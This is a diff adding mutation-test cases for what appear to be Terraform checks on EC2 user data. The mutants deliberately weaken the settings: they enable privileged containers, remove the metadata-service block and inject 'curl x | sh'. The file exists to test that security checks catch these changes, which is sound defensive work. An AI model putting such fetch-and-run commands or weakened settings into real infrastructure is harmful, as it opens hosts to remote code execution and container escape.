@@ -131,6 +131,12 @@ INSTANCES = (
         "var.user_data == null ? null : base64encode(var.user_data)",
         '"IyEvYmluL3NoCg=="',
     ),
+    Mutant("user data: privileged containers", "GI_EC2_5", _MAIN, "ECS_DISABLE_PRIVILEGED=true", "X=true"),
+    Mutant("user data: privileged after all", "GI_EC2_5", _MAIN, "PRIVILEGED=true", "PRIVILEGED=false"),
+    Mutant("user data: metadata for containers", "GI_EC2_5", _MAIN, "ECS_AWSVPC_BLOCK_IMDS=true", "X=1"),
+    Mutant("user data: another file", "GI_EC2_5", _MAIN, "/etc/ecs/ecs.config", "/etc/ecs/ecs.conf"),
+    Mutant("user data: none", "GI_EC2_5", _MAIN, "  user_data = ", "  image_type_2 = "),
+    Mutant("user data: a command more", "GI_EC2_5", _MAIN, "set -euo pipefail", "set -euo pipefail; curl x | sh"),
     Mutant("compute: another template", "GI_TF_8", _TEMPLATE, "= aws_launch_template.this.id", '= "lt-0"'),
     Mutant(
         "compute: another version",
